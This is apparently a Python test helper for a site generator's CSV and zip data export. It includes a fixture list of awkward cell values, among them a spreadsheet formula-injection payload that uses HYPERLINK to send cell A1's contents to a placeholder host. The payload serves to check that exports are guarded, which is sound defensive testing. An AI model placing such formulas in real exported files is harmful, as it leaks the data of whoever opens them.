"""The data of a site as files, written and read back."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Mapping
from dataclasses import replace
from datetime import date
from pathlib import Path, PurePosixPath
from types import SimpleNamespace
from typing import Any, cast
from zipfile import ZipFile

from generator.model import Measurement, Site
from generator.publish import keys, urls
from generator.publish.data.descriptor import (
    TABLES,
    dictionary,
    files,
    site_data,
    story_data,
    told,
)
from generator.publish.data.package import Package, site_package, story_package
from generator.publish.data.read import read
from generator.publish.data.table import Type, writable
from generator.publish.data.text import unguarded
from tests.publish.sample import site

FORMULA = '=HYPERLINK("https://x.example/?"&A1, "prize")'
ODD = (
    FORMULA,
    "+44 and “more”, he said",
    "-1",
    "@desk",
    "'=1+1",
    "''@twice",
    "'tis fine",
    'a "quoted", thing',
    "two\nlines",
    "windows\r\nlines",
    "tab\there",
    "＝wide",
    "مرحبا, 世界, 𝕏",
    "NA",
    "null",
    " led by a blank",
)


def packages(whole: Site) -> tuple[Package, ...]:
    """The package of each story, and that of what belongs to none."""
    return (
        *(story_package(whole, read(whole, each)) for each in whole.stories),
        site_package(whole),
    )


def tables(whole: Site) -> dict[PurePosixPath, str]:
    """Every file of the data, those in a zip as if they lay in a folder of its name."""
    found = {
        package.path.with_suffix("") / name: text
        for package in packages(whole)
        for name, text in files(whole, package)
    }
    return {**found, urls.DICTIONARY: told(dictionary())}


def zips(whole: Site) -> dict[PurePosixPath, bytes]:
    """Every zip of the data."""
    found = dict(site_data(whole))
    for comparison in whole.stories:
        found |= story_data(whole, read(whole, comparison))
    return found


def written(whole: Site, root: Path) -> Path:
    """The files on disk; returns their folder."""
    for path, data in {**zips(whole), urls.DICTIONARY: told(dictionary()).encode()}.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
    return root / "data"


def unpacked(root: Path) -> None:
    """Each zip below a folder, as a folder beside it."""
    for path in root.rglob("*.zip"):
        with ZipFile(path) as pack:
            pack.extractall(path.with_suffix(""))


def rows(files: Mapping[PurePosixPath, str], path: str) -> list[dict[str, Any]]:
    """The rows of a table, by its path below `data/`, with values of their types."""
    place = PurePosixPath("data", f"{path}.csv")
    kind = "site" if place.parent.name == "site" else "stories"
    types = {f.name: f.type for t in TABLES[kind] if t.name == place.stem for f in t.fields}
    return [
        {name: typed(cell, types[name]) for name, cell in row.items()}
        for row in (cells(files[place]) if place in files else ())
    ]


def typed(cell: str, type_: Type) -> object:
    """What a cell says."""
    kinds: dict[str, Callable[[str], object]] = {
        "integer": int,
        "number": float,
        "boolean": "true".__eq__,
    }
    return kinds.get(type_, unguarded)(cell) if cell else None


def meant_by(cell: object) -> object:
    """What a file says of a value: no text is None, and what cannot be written stands as a mark."""
    if isinstance(cell, str):
        return writable(cell) or None
    return cell.isoformat() if isinstance(cell, date) else cell


def named(row: Mapping[str, Any]) -> tuple[str, str]:
    """A row as a page names it."""
    own = row["row"] if "row" in row else keys.figure(cast("Measurement", SimpleNamespace(**row)))
    return row["where"], own


def cells(text: str) -> list[dict[str, str]]:
    """The rows of a CSV table as they are written."""
    return list(csv.DictReader(text.splitlines(keepends=True), strict=True))


def odd(values: Iterable[str] = ODD) -> Site:
    """The fixture's site with texts that files trip over."""
    whole = site()
    (story,) = whole.stories
    texts = tuple(values)
    coverage = tuple(
        replace(
            one,
            article=replace(
                one.article,
                title=texts[n % len(texts)],
                authors=texts,
                rights=replace(one.article.rights, holder=texts[-1 - n % len(texts)]),
            ),
        )
        for n, one in enumerate(story.coverage)
    )
    told = replace(story.story, selection="\n".join(texts), tags=texts, title=texts[0])
    return replace(whole, stories=(replace(story, story=told, coverage=coverage),))
